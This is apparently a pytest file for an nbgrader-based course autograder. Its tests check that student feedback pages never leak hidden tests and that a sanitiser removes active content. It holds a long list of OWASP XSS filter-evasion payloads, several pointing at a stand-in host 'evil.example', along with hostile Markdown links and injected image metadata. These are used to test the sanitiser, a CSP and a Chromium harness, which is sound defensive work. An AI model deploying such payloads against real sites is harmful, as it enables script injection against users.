"""Feedback pages: no hidden test by any route, and no active content by any route OWASP's filter-evasion list names.

A small course (one lesson, two test cells with hidden tests) is released with nbgrader; one
student's submitted notebook carries hostile outputs and Markdown, and the autograded notebook
is written by hand as a hostile kernel would have left it: an ordinary cell after a test cell
printed the executed hidden tests (plain, base64, as HTML), a test cell printed during the
test, a failed test carries a long message and an exception class named after a hidden test.
Feedback is made by `python -m autograder feedback`'s function and by plain `nbgrader
generate_feedback` with the course's configuration, and both pages are checked.

The sanitiser is checked on its own against OWASP's XSS filter-evasion classes, with an
independent parser of the result, and in Chromium (see the end of this file).
"""
import base64
import copy
import html
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from autograder import feedback
from autograder.feedback import CSP, SafeFeedbackExporter, sanitize_page
from autograder.preprocessors import hidehiddentests
from autograder.shown import MAX_MESSAGE

REPO = Path(__file__).resolve().parents[2]
LESSON = "99_feedback_probe"
HIDDEN_F = "assert f(41) == 42, 'SECRET-REFERENCE-4242'"
HIDDEN_G = "assert f(-7) == -6, 'SECRET-REFERENCE-MINUS-SIX'"
SECRETS = ["SECRET-REFERENCE", "f(41) == 42", "f(-7) == -6", base64.b64encode(HIDDEN_F.encode()).decode()[:24]]
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.PWNED=90"/>').decode()


def _nbgrader(cell, **meta):
    cell.metadata["nbgrader"] = dict(schema_version=3, solution=False, grade=False, locked=False, task=False) | meta
    return cell


def source_notebook():
    cells = [
        new_markdown_cell("# Feedback probe\nThe course's own text, with [a link](https://example.org)."),
        new_code_cell("import math", id="setup"),
        _nbgrader(new_code_cell("def f(x):\n    ### BEGIN SOLUTION\n    return x + 1\n    ### END SOLUTION",
                                id="answer"), solution=True, grade_id="answer"),
        _nbgrader(new_code_cell(f"assert f(1) == 2\n### BEGIN HIDDEN TESTS\n{HIDDEN_F}\n### END HIDDEN TESTS",
                                id="test-f"), grade=True, locked=True, grade_id="test_f", points=2),
        new_code_cell("print(f(2))", id="after"),
        _nbgrader(new_code_cell(f"assert f(0) == 1\n### BEGIN HIDDEN TESTS\n{HIDDEN_G}\n### END HIDDEN TESTS",
                                id="test-g"), grade=True, locked=True, grade_id="test_g", points=1),
    ]
    return new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                              "language": "python"}})


# --- OWASP XSS filter-evasion classes: each sets window.PWNED, opens a dialog, or loads from another host ---
EVIL = "http://evil.example"
PAYLOADS = {
    "script": "<script>window.PWNED=1</script>",
    "script_src": f"<SCRIPT SRC={EVIL}/xss.js></SCRIPT>",
    "script_case_split": "<ScRiPt >window.PWNED=2</sCrIpT >",
    "img_javascript": "<IMG SRC=\"javascript:window.PWNED=3\">",
    "img_case": "<IMG SRC=JaVaScRiPt:window.PWNED=4>",
    "img_entities_decimal": "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(5)>",
    "img_entities_hex_nosemi": "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C"
                               "&#x65&#x72&#x74&#x28&#x36&#x29>",
    "img_tab": "<IMG SRC=\"jav\tascript:alert(7);\">",
    "img_encoded_newline": "<IMG SRC=\"jav&#x0A;ascript:alert(8);\">",
    "img_null_byte": "<IMG SRC=\"java\x00script:alert(9)\">",
    "img_leading_space_entity": "<IMG SRC=\" &#14;  javascript:alert(10);\">",
    "img_onerror": "<img src=x onerror=\"window.PWNED=11\">",
    "img_onerror_slash": "<img/src=x/onerror=window.PWNED=12>",
    "img_onerror_backtick": "<img src=x onerror=`window.PWNED=13`>",
    "img_remote": f"<img src=\"{EVIL}/pixel.png\">",
    "img_svg_data": f"<img src=\"data:image/svg+xml;base64,{SVG}\">",
    "img_html_data": "<img src=\"data:text/html,<script>window.PWNED=14</script>\">",
    "malformed_img": "<IMG \"\"\"><SCRIPT>window.PWNED=15</SCRIPT>\">",
    "malformed_a": "\\<a onmouseover=\"window.PWNED=16\"\\>xxs link\\</a\\>",
    "extraneous_brackets": "<<SCRIPT>window.PWNED=17;//\\<</SCRIPT>",
    "half_open": "<IMG SRC=\"`<javascript:alert(18)>`\"",
    "non_alpha_non_digit": "<SCRIPT/XSS SRC=\"http://evil.example/xss.js\"></SCRIPT>",
    "body_onload": "<BODY ONLOAD=window.PWNED=19>",
    "a_javascript": "<a href=\"javascript:window.PWNED=20\">click</a>",
    "a_javascript_case_space": "<a href=\"  JaVaScRiPt : window.PWNED=21\">click</a>",
    "a_javascript_entity": "<a href=\"javascript&colon;window.PWNED=22\">click</a>",
    "a_javascript_tab_entity": "<a href=\"jav&#x09;ascript:window.PWNED=23\">click</a>",
    "a_vbscript": "<a href=\"vbscript:msgbox(24)\">click</a>",
    "a_data_html": "<a href=\"data:text/html;base64,PHNjcmlwdD53aW5kb3cuUFdORUQ9MjU8L3NjcmlwdD4=\">click</a>",
    "a_onmouseover": f"<a href=\"{EVIL}/\" onmouseover=\"window.PWNED=26\">hover</a>",
    "svg_onload": "<svg/onload=window.PWNED=27>",
    "svg_script": "<svg><script>window.PWNED=28</script></svg>",
    "math_mxss": "<math><mtext><table><mglyph><style><img src=x onerror=window.PWNED=29></style></mglyph>"
                 "</table></mtext></math>",
    "noscript_mxss": "<noscript><p title=\"</noscript><img src=x onerror=window.PWNED=30>\"></noscript>",
    "details_ontoggle": "<details open ontoggle=\"window.PWNED=31\"><summary>s</summary></details>",
    "input_autofocus": "<input autofocus onfocus=\"window.PWNED=32\">",
    "video_source": "<video><source onerror=\"window.PWNED=33\"></video>",
    "iframe_javascript": "<IFRAME SRC=\"javascript:parent.PWNED=34;\"></IFRAME>",
    "iframe_srcdoc": "<iframe srcdoc=\"<script>parent.PWNED=35</script>\"></iframe>",
    "object": "<object data=\"javascript:window.PWNED=36\"></object>",
    "embed": f"<embed src=\"{EVIL}/x.swf\">",
    "form": "<form action=\"javascript:window.PWNED=37\"><button id=go>go</button></form>",
    "meta_refresh": "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:window.PWNED=38;\">",
    "meta_refresh_data": "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,"
                         "PHNjcmlwdD5hbGVydCgzOSk8L3NjcmlwdD4K\">",
    "base_href": f"<BASE HREF=\"{EVIL}/\"><img src=\"x.png\">",
    "link_stylesheet": f"<LINK REL=\"stylesheet\" HREF=\"{EVIL}/x.css\">",
    "style_import": f"<STYLE>@import '{EVIL}/x.css';</STYLE>",
    "style_url": f"<STYLE>body {{ background: url(\"{EVIL}/bg.png\") }}</STYLE>",
    "style_attr_url": f"<div style=\"background-image: url({EVIL}/bg.png)\">bg</div>",
    "style_attr_javascript": "<div style=\"background-image: url(javascript:window.PWNED=40)\">bg</div>",
    "style_attr_expression": "<div style=\"width: expression(window.PWNED=41);\">x</div>",
    "style_attr_escaped": f"<div style=\"background:\\75\\72\\6c({EVIL}/esc.png)\">x</div>",
    "table_background": "<TABLE BACKGROUND=\"javascript:window.PWNED=42\"><tr><td>t</td></tr></TABLE>",
    "td_background": f"<table><tr><TD BACKGROUND=\"{EVIL}/td.png\">t</td></tr></table>",
    "comment_conditional": "<!--[if gte IE 4]><SCRIPT>window.PWNED=43</SCRIPT><![endif]-->",
    "xml_namespace": "<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"http://evil.example/x.htc\">"
                     "<xss:xss>XSS</xss:xss></HTML>",
    "audio_onerror": "<audio src=x onerror=window.PWNED=44>",
    "marquee": "<marquee onstart=window.PWNED=45>m</marquee>",
    "a_href_unicode_escape": "<a href=\"\u0001javascript:window.PWNED=46\">c</a>",
    "a_formaction": "<form><button formaction=\"javascript:window.PWNED=47\">b</button></form>",
    "a_long_decimal_entities": "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
                               "&#0000112&#0000116&#0000058window.PWNED=48\">c</a>",
    "a_carriage_return": "<a href=\"java&#x0D;script:window.PWNED=49\">c</a>",
    "a_protocol_relative": "<a href=\"//evil.example/\">c</a>",
    "img_dynsrc_lowsrc": "<IMG DYNSRC=\"javascript:window.PWNED=50\"><IMG LOWSRC=\"javascript:window.PWNED=51\">",
    "input_image": "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:window.PWNED=52;\">",
    "bgsound_layer": f"<BGSOUND SRC=\"{EVIL}/s.wav\"><LAYER SRC=\"{EVIL}/l.html\"></LAYER>",
    "style_behavior": f"<XSS STYLE=\"behavior: url({EVIL}/xss.htc);\">x</XSS>",
    "style_comment_split": "<IMG STYLE=\"xss:expr/*XSS*/ession(window.PWNED=53)\">",
    "style_type_javascript": "<STYLE TYPE=\"text/javascript\">window.PWNED=54;</STYLE>",
    "isindex": "<isindex type=image src=1 onerror=window.PWNED=55>",
    "svg_animate": "<svg><animate onbegin=window.PWNED=56 attributeName=x dur=1s>",
    "svg_xlink": "<svg><a xlink:href=\"javascript:window.PWNED=57\"><text x=20 y=20>x</text></a></svg>",
}
MARKDOWN_PAYLOADS = """
[md javascript](javascript:window.PWNED=60) [md case](JaVaScRiPt:window.PWNED=61) [md vbscript](vbscript:msgbox(62))
[md data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuUFdORUQ9NjM8L3NjcmlwdD4=) [md entity](javascript&#58;window.PWNED=64)
![md img](javascript:window.PWNED=65) ![md svg](data:image/svg+xml;base64,{svg}) ![md remote]({evil}/md.png)
<javascript:window.PWNED=66> [ref link][r] [ok link](https://example.org/ok) [md angle](<javascript:window.PWNED=58>)
[md spaced](  javascript:window.PWNED=59) [md entity2](&#106;avascript:window.PWNED=75) [md rel](//evil.example/)

[r]: javascript:window.PWNED=67

<img src=x onerror="window.PWNED=68"> <script>window.PWNED=69</script>
""".format(svg=SVG, evil=EVIL)


def hostile_outputs():
    """Outputs a student's code can display: every payload as HTML and as Markdown, images with injected metadata."""
    outs = [new_output("display_data", data={"text/html": "\n".join(PAYLOADS.values()), "text/plain": "html"})]
    outs.append(new_output("display_data", data={"text/markdown": MARKDOWN_PAYLOADS, "text/plain": "md"}))
    for i, width in enumerate(['1" onerror="window.PWNED=70', "1 onerror=window.PWNED=71", "1><script>window.PWNED=72"
                               "</script>"]):
        outs.append(new_output("display_data", data={"image/png": PNG, "text/plain": "img"},
                               metadata={"image/png": {"width": width, "height": width}}))
    outs.append(new_output("display_data", data={"image/png": PNG + '" onerror="window.PWNED=73', "text/plain": "q"}))
    outs.append(new_output("display_data", data={"image/svg+xml": base64.b64decode(SVG).decode()}))
    outs.append(new_output("display_data", data={"application/javascript": "window.PWNED=74"}))
    outs.append(new_output("display_data", data={"text/html": "<b>harmless bold</b> <a href='https://example.org/'>"
                                                 "a link</a>", "text/plain": "ok"}))
    outs.append(new_output("display_data", data={"image/png": PNG, "text/plain": "good image"},
                           metadata={"image/png": {"width": 40}}))
    return outs


# --- the course ---------------------------------------------------------------------------------------------

def _write(nb, path):
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """The lesson released by nbgrader, a submission with hostile outputs, an autograded notebook as a hostile
    kernel leaves it, the gradebook entries; feedback made both ways."""
    from nbgrader.api import Gradebook
    from autograder.course import nbgrader_api
    root = tmp_path_factory.mktemp("feedback") / "course"
    _write(source_notebook(), root / "source" / LESSON / f"{LESSON}.ipynb")
    assert nbgrader_api(root).generate_assignment(LESSON)["success"]
    release = nbformat.read(str(root / "release" / LESSON / f"{LESSON}.ipynb"), as_version=4)
    # what the student submits: their answer, outputs they saw, their Markdown
    submitted = copy.deepcopy(release)
    cells = {c.id: c for c in submitted.cells}
    cells["answer"].source = "def f(x):\n    return x + 1\n"
    cells["setup"].outputs = [new_output("stream", name="stdout", text="SUBMITTED-SETUP\n")]
    cells["answer"].outputs = hostile_outputs()
    cells["after"].outputs = [new_output("stream", name="stdout", text="SUBMITTED-AFTER\n")]
    for gid in ("test-f", "test-g"):
        cells[gid].outputs = [new_output("stream", name="stdout", text="SUBMITTED-TEST-OUTPUT\n")]
    submitted.cells.append(new_markdown_cell("My notes." + MARKDOWN_PAYLOADS + "\n".join(PAYLOADS.values()),
                                             id="notes"))
    colab = copy.deepcopy(submitted)  # a Colab download: nbformat 4.4, no cell ids: matched by position
    colab.nbformat_minor = 4
    for c in colab.cells:
        c.pop("id", None)
    # what the grader's run left: the hidden tests in the test cells, leaks printed after them
    source = {c.id: c for c in source_notebook().cells}
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        for student, sub in (("eve", submitted), ("colab", colab)):
            _write(sub, root / "submitted" / student / LESSON / f"{LESSON}.ipynb")
            graded = copy.deepcopy(submitted)
            g = {c.id: c for c in graded.cells}
            if student == "eve":  # nbgrader's autograde puts the hidden tests back; the course's grader may not
                for gid in ("test-f", "test-g"):
                    g[gid].source = source[gid].source
            g["setup"].outputs = [new_output("stream", name="stdout", text="EXECUTED-SETUP\n")]
            g["answer"].outputs = [new_output("stream", name="stdout", text="EXECUTED-ANSWER\n")]
            g["test-f"].outputs = [new_output("stream", name="stdout", text="printed during the test " + HIDDEN_F)]
            leak = base64.b64encode(HIDDEN_F.encode()).decode()
            g["after"].outputs = [new_output("stream", name="stdout", text=f"LEAK B64 {leak}\nREV {HIDDEN_F[::-1]}\n"),
                                  new_output("display_data", data={"text/html": f"<pre>{HIDDEN_G}</pre>"}),
                                  new_output("execute_result", data={"text/plain": "LEAK " + HIDDEN_F},
                                             execution_count=5)]
            # a long message (eve), or a short one quoting a hidden line that only the source notebook holds (colab)
            message = "x" * (MAX_MESSAGE + 100) + HIDDEN_G if student == "eve" else f"failed: {HIDDEN_G}"
            g["test-g"].outputs = [new_output("error", ename="Leak_" + re.sub(r"\W", "_", HIDDEN_G),
                                              evalue=message, traceback=["tb " + HIDDEN_G])]
            _write(graded, root / "autograded" / student / LESSON / f"{LESSON}.ipynb")
            gb.update_or_create_student(student)
            gb.add_submission(LESSON, student)
            gb.find_grade("test_f", LESSON, LESSON, student).auto_score = 2
            gb.find_grade("test_g", LESSON, LESSON, student).auto_score = 0
        gb.db.commit()
    pages = {}
    written = feedback.generate_feedback(root, [LESSON], log=print)
    for student in ("eve", "colab"):
        pages[("autograder", student)] = (root / "feedback" / student / LESSON / f"{LESSON}.html").read_text()
    assert len(written) == 2
    plain = root.parent / "plain"
    import shutil
    shutil.copytree(root, plain)
    shutil.rmtree(plain / "feedback")
    done = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", LESSON,
                           "--JupyterApp.config_file=autograder/nbgrader_config.py", f"--CourseDirectory.root={plain}"],
                          cwd=REPO, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    for student in ("eve", "colab"):
        pages[("nbgrader", student)] = (plain / "feedback" / student / LESSON / f"{LESSON}.html").read_text()
    return dict(root=root, pages=pages)


PAGES = [("autograder", "eve"), ("autograder", "colab"), ("nbgrader", "eve"), ("nbgrader", "colab")]


def text_of(page):
    return html.unescape(re.sub(r"<[^>]+>", " ", page))


@pytest.mark.parametrize("which", PAGES)
def test_ordinary_cells_show_the_submitted_outputs_never_the_graders_run(course, which):
    text = text_of(course["pages"][which])
    assert "SUBMITTED-SETUP" in text and "SUBMITTED-AFTER" in text
    assert "harmless bold" in text
    for executed in ("EXECUTED-SETUP", "EXECUTED-ANSWER", "LEAK", "REV "):
        assert executed not in text, executed


@pytest.mark.parametrize("which", PAGES)
def test_no_hidden_test_reaches_the_page_by_any_route(course, which):
    page = course["pages"][which]
    for secret in SECRETS + [HIDDEN_F[::-1][:20], re.sub(r"\W", "_", HIDDEN_G)[:20]]:
        assert secret not in page and secret not in text_of(page), secret


@pytest.mark.parametrize("which", PAGES)
def test_a_test_cell_shows_only_passed_or_failed_with_a_bounded_message(course, which):
    text = text_of(course["pages"][which])
    assert "SUBMITTED-TEST-OUTPUT" not in text and "printed during the test" not in text
    assert text.count("Test passed.") == 1  # test_f
    if which[1] == "eve":
        failed = re.search(r"Error: (x+\.\.\.)", text)  # test_g: its class, named by the student, is not shown
        assert failed and len(failed.group(1)) == MAX_MESSAGE, failed
    else:  # the hidden line the message quoted is blanked
        assert "Error: failed: [hidden test]" in text
    assert text.count(hidehiddentests.HIDDEN_NOTE) == 1  # test_g failed; known from the source when graded without it
    assert "Leak_" not in text


@pytest.mark.parametrize("which", PAGES)
def test_the_page_opens_with_what_failed_and_its_message_escaped(course, which):
    """The diagnosis first: a first cell lists each failed test cell with its message, before the lesson."""
    page = course["pages"][which]
    summary = page[page.index("What to look at first"):page.index("Test passed.")]
    assert "test_g" in summary and "test_f" not in summary.split("</ul>")[0].replace("test_g", "")
    assert "<script" not in summary.lower()


def test_the_verdict_keeps_python_and_course_error_names_only():
    error = new_output("error", ename="AssertionError", evalue="y" * 1000, traceback=["t"])
    out = hidehiddentests._verdict([error], True)
    assert out[0].ename == "AssertionError" and len(out[0].evalue) == MAX_MESSAGE and out[0].evalue.endswith("...")
    assert out[0].traceback == [f"AssertionError: {out[0].evalue}", hidehiddentests.HIDDEN_NOTE]
    assert hidehiddentests._verdict([new_output("error", ename="Hidden_assert_f_41", evalue="m", traceback=[])],
                                    False)[0].ename == "Error"
    assert hidehiddentests._verdict([], False)[0].text == hidehiddentests.PASSED


def test_submitted_outputs_are_matched_by_id_then_by_position_among_non_test_cells():
    sub = new_notebook(cells=[new_code_cell("a", id="a", outputs=[new_output("stream", name="stdout", text="A")]),
                              _nbgrader(new_code_cell("t", id="t"), grade=True, grade_id="t", points=1),
                              new_code_cell("b", id="b", outputs=[new_output("stream", name="stdout", text="B")])])
    own = hidehiddentests._OwnOutputs(sub)
    assert own.find("b", 0).source == "b"  # by id, wherever it is
    assert own.find("renamed", 1).source == "b"  # else the second non-test code cell
    assert own.find(None, 2) is None
    assert hidehiddentests._OwnOutputs(None).find("a", 0) is None


# --- the sanitiser -----------------------------------------------------------------------------------------

ALLOWED_TAGS = {"a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del",
                "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5",
                "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small",
                "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr",
                "tt", "u", "ul", "var"}
HEAD_TAGS = {"html", "head", "meta", "title", "style", "body"}
KNOWN_ATTRIBUTES = {"class", "id", "title", "href", "name", "src", "alt", "width", "height", "style", "colspan",
                    "rowspan", "align", "start", "border"}
# presentation MathML (the rendered formulas), allowed inside <math> only, with presentational attributes only
MATH_TAGS = {"math", "mrow", "mi", "mn", "mo", "ms", "mtext", "mspace", "msup", "msub", "msubsup", "mfrac", "msqrt",
             "mroot", "mover", "munder", "munderover", "mtable", "mtr", "mtd", "mstyle", "mpadded", "mphantom",
             "menclose", "semantics", "annotation"}
MATH_ATTRIBUTES = {"display", "mathvariant", "stretchy", "fence", "separator", "lspace", "rspace", "movablelimits",
                   "accent", "accentunder", "columnalign", "columnspacing", "rowspacing", "width", "height", "depth",
                   "minsize", "maxsize", "form", "largeop", "symmetric", "scriptlevel", "displaystyle",
                   "linethickness", "notation"}


class Inspector(HTMLParser):
    """Every tag and attribute of a page, as a browser's tokenizer sees them (independent of bleach)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems, self.in_body, self.metas, self.in_math = [], False, [], 0

    def handle_endtag(self, tag):
        if tag == "math" and self.in_math:
            self.in_math -= 1

    def handle_starttag(self, tag, attrs):
        if tag == "meta":
            self.metas.append(dict(attrs))
        math = self.in_body and (self.in_math or tag == "math") and tag in MATH_TAGS
        self.in_math += tag == "math" and math
        if tag == "body" and not self.in_body:
            self.in_body = True  # the page's own <body>: its attributes are checked below
        elif not math and ((tag not in ALLOWED_TAGS and self.in_body) or tag not in ALLOWED_TAGS | HEAD_TAGS):
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            flat = re.sub(r"[\x00-\x20\x7f-\xa0]+", "", html.unescape(value)).lower()
            if math and name not in MATH_ATTRIBUTES:
                self.problems.append(f"<{tag} {name}=...> in a formula")
            elif not math and (name.startswith("on") or name not in KNOWN_ATTRIBUTES | (
                    {"charset", "content", "http-equiv", "name"} if tag == "meta" else set())):
                self.problems.append(f"<{tag} {name}=...>")
            if name == "href" and not (flat.startswith(("http:", "https:", "mailto:", "#"))):
                self.problems.append(f"<{tag} href={value!r}>")
            if name == "src" and not re.fullmatch(r"data:image/(png|jpeg|gif);base64,[a-z0-9+/=]*", flat):
                self.problems.append(f"<{tag} src={value[:60]!r}>")
            if name == "style" and re.search(r"url|expression|\\|@|javascript|import|behavior",
                                             re.sub(r"/\*.*?\*/", "", flat)):
                self.problems.append(f"<{tag} style={value!r}>")
            if name in ("width", "height") and not re.fullmatch(r"-?[\d.]+(em|ex|px|%)?" if math else r"\d+(%|px)?",
                                                                 value):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "http-equiv" and value.lower() != "content-security-policy":
                self.problems.append(f"<meta http-equiv={value!r}>")


def inspect(page):
    parser = Inspector()
    parser.feed(page)
    parser.close()
    style = "".join(re.findall(r"<style[^>]*>(.*?)</style>", page, re.S | re.I))
    if re.search(r"url\s*\(|@import|expression\s*\(", style, re.I):
        parser.problems.append("a style sheet that loads or runs something")
    csp = [m.get("content") for m in parser.metas if (m.get("http-equiv") or "").lower() == "content-security-policy"]
    if csp != [CSP]:
        parser.problems.append(f"Content-Security-Policy metas: {csp}")
    return parser.problems


def page_with(body):
    return ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>t</title><script src='http://evil.example/h.js'>"
            "</script><style>p { color: red; background: url(http://evil.example/b.png) }</style></head><body>"
            + body + "</body></html>")


def test_the_csp_forbids_scripts_and_every_load_but_data_images():
    directives = dict(d.strip().split(" ", 1) for d in CSP.split(";"))
    assert directives["default-src"] == "'none'" and directives["img-src"] == "data:"
    assert "script-src" not in directives and "'unsafe-inline'" not in directives.get("default-src", "")


def test_the_inspector_finds_every_payload_in_raw_html():
    """The check below can fail: every payload put unsanitised into a clean page is a problem the inspector reports
    (but an Internet Explorer conditional comment, which is a comment to every other browser)."""
    clean = sanitize_page(page_with(""))
    assert inspect(clean) == [] and inspect(page_with(""))  # the raw head (a script, a url()) is found too
    missed = [name for name, payload in PAYLOADS.items() if not inspect(clean.replace("<body>", "<body>" + payload, 1))]
    assert missed == ["comment_conditional"]


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_sanitize_page_removes_every_owasp_evasion(name):
    page = sanitize_page(page_with(PAYLOADS[name]))
    assert inspect(page) == [], page[page.index("<body>"):]
    assert "evil.example" not in re.sub(r"<[^>]+>", " ", page.split("<body>", 1)[0])  # head loads nothing
    assert not re.search(r"<(script|iframe|object|embed|form|base|svg|math|link|style)\b",
                         page.split("<body>", 1)[1], re.I)


def test_harmless_html_survives_the_sanitiser():
    body = ("<h2 id='sec'>Results</h2><p><b>bold</b> <i>it</i> <code>x</code> <a href='https://example.org/a'>web</a>"
            f" <a href='#sec'>up</a> <a href='mailto:ta@uni.edu'>mail</a></p><img src='data:image/png;base64,{PNG}' "
            "width='40' alt='plot'><table class='dataframe' border='1'><tr style='text-align: right;'><th>a</th>"
            "<td colspan='2'>1</td></tr></table>")
    page = sanitize_page(page_with(body))
    for kept in ("<b>bold</b>", '<a href="https://example.org/a">', '<a href="#sec">', '<a href="mailto:ta@uni.edu">',
                 f'src="data:image/png;base64,{PNG}"', 'width="40"', 'style="text-align: right;"', 'colspan="2"',
                 '<h2 id="sec">', "p { color: red; background: none }"):
        assert kept in page, kept


def test_formulas_in_text_become_mathml_and_code_outputs_and_prices_stay_as_written():
    """No script may typeset in the reader's browser: the grader writes the formulas as MathML, which browsers
    draw; text in code and outputs is never read as mathematics."""
    body = ("<p>scores $QK^\\top/\\sqrt{d_k}$, then</p><p>$$\\mathrm{softmax}(x)_i = \\frac{e^{x_i}}{\\sum_j "
            "e^{x_j}}$$</p><pre>it cost $5 and $6</pre><p><code>f\"{x:$^5}\"</code> and $a &lt; b$</p>")
    page = sanitize_page(page_with(body))
    body = page[page.index("<body>"):]
    assert inspect(page) == [], body
    assert body.count("<math") == 3 and '<math display="block">' in body and "<msqrt>" in body and "<mfrac>" in body
    assert "<mo>&#x0003C;</mo>" in body                                  # a < b: the operator, escaped
    assert "<pre>it cost $5 and $6</pre>" in body and '$^5}"</code>' in body
    assert "\\sqrt" not in body


@pytest.mark.parametrize("latex", [r"\href{javascript:alert(1)}{x}", r"\text{<script>window.PWNED=1</script>}",
                                   r"\text{&lt;img src=x onerror=alert(1)&gt;}", r"\style{background:url(http://e/x)}{x}",
                                   r"\text{</math><img src=x onerror=alert(1)>}"])
def test_a_hostile_formula_renders_nothing_active(latex):
    page = sanitize_page(page_with(f"<p>${latex}$</p>"))
    assert inspect(page) == [], page[page.index("<body>"):]
    assert not re.search(r"<(script|img)\b|href=|onerror|url\(", page.split("<body>", 1)[1], re.I)


def test_an_image_from_the_network_shows_its_alt_text_not_a_broken_image():
    badge = ('<a href="https://colab.research.google.com/x"><img src="https://colab.research.google.com/assets/'
             'colab-badge.svg" alt="Open In Colab"/></a>')
    body = sanitize_page(page_with(badge + f"<img src='data:image/png;base64,{PNG}' alt='plot'>")).split("<body>")[1]
    assert '<a href="https://colab.research.google.com/x">Open In Colab</a>' in body
    assert body.count("<img") == 1 and f"data:image/png;base64,{PNG}" in body


def hostile_notebook():
    """Every payload as output HTML, Markdown output, image metadata and a Markdown cell; no nbgrader involved."""
    return new_notebook(cells=[new_markdown_cell(MARKDOWN_PAYLOADS + "\n" + "\n".join(PAYLOADS.values())),
                               new_code_cell("show()", outputs=hostile_outputs())])


def test_the_exporter_sanitises_the_final_html_of_any_template():
    """SafeFeedbackExporter alone (nbconvert's classic template, no preprocessor): the width metadata injection
    that nbconvert writes unquoted, SVG and JavaScript outputs, and Markdown links never reach the page active."""
    raw, _ = __import__("nbconvert").HTMLExporter(template_name="classic").from_notebook_node(hostile_notebook())
    assert 'onerror="window.PWNED=71"' in raw  # nbconvert itself writes the injected attribute (width=1 onerror=...)
    page, _ = SafeFeedbackExporter(template_name="classic").from_notebook_node(hostile_notebook())
    assert inspect(page) == []
    assert "harmless bold" in page and 'width="40"' in page


@pytest.mark.parametrize("which", PAGES)
def test_feedback_pages_pass_the_inspector(course, which):
    assert inspect(course["pages"][which]) == []


# --- Chromium: the pages open, and nothing runs or loads ------------------------------------------------------

from tests import browser as b  # noqa: E402

_missing = b.missing_prerequisite()
if _missing and os.environ.get("COURSE_CI") == "1":
    raise RuntimeError(f"browser tests cannot run under COURSE_CI=1: {_missing}")
needs_chromium = pytest.mark.skipif(bool(_missing), reason=f"browser tests skipped: {_missing}")

PROBE_JS = """() => {
  // what an attacker's script would leave, and what a careless page would do on a reader's action
  for (const a of document.querySelectorAll('a[href]'))
    if (!/^(https?:|mailto:)/i.test(a.getAttribute('href'))) a.click();
  for (const e of document.querySelectorAll('*'))
    for (const t of ['mouseover', 'focus', 'toggle', 'load', 'error']) e.dispatchEvent(new Event(t));
  for (const f of document.querySelectorAll('form button, form input')) f.click();
  return {pwned: window.PWNED === undefined ? null : String(window.PWNED), csp: window.__csp || [],
          scripts: document.scripts.length};
}"""


@pytest.fixture(scope="module")
def served(course, tmp_path_factory):
    """The pages over http://127.0.0.1 (a real origin): the feedback pages, the exporter's page, and a control."""
    import functools
    import http.server
    import threading
    root = tmp_path_factory.mktemp("served")
    for (how, student), page in course["pages"].items():
        (root / f"{how}-{student}.html").write_text(page)
    page, _ = SafeFeedbackExporter(template_name="classic").from_notebook_node(hostile_notebook())
    (root / "exporter.html").write_text(page)
    raw, _ = __import__("nbconvert").HTMLExporter(template_name="classic").from_notebook_node(hostile_notebook())
    (root / "control.html").write_text(raw)  # unsanitised: the harness must see its payloads fire
    (root / "csp-only.html").write_text(raw.replace("<head>", f'<head><meta http-equiv="Content-Security-Policy" '
                                                              f'content="{CSP}">', 1))
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(root))
    handler.log_message = lambda *a: None
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


@pytest.fixture(scope="module")
def chromium(tmp_path_factory):
    with b.browser(tmp_path_factory.mktemp("chromium-profile")) as context:
        context.add_init_script("document.addEventListener('securitypolicyviolation', e => "
                                "(window.__csp = window.__csp || []).push(e.violatedDirective + ' ' + e.blockedURI));")
        yield context


def open_page(context, url):
    """Open url, act as a reader would, and return what ran and what was requested."""
    page = context.new_page()
    dialogs, requests, failed = [], [], {}
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: requests.append(r.url))  # every request the page tried, blocked or not
    navigations = []  # a click on a link (vbscript:, a relative URL): the policy does not govern navigation
    page.on("request", lambda r: r.is_navigation_request() and r.frame == page.main_frame and navigations.append(r.url))
    page.on("requestfailed", lambda r: failed.setdefault(r.url, r.failure))
    try:
        page.goto(url, wait_until="load")
        page.wait_for_timeout(1500)  # meta refreshes, timers, late image errors
        state = page.evaluate(PROBE_JS)
        page.wait_for_timeout(500)
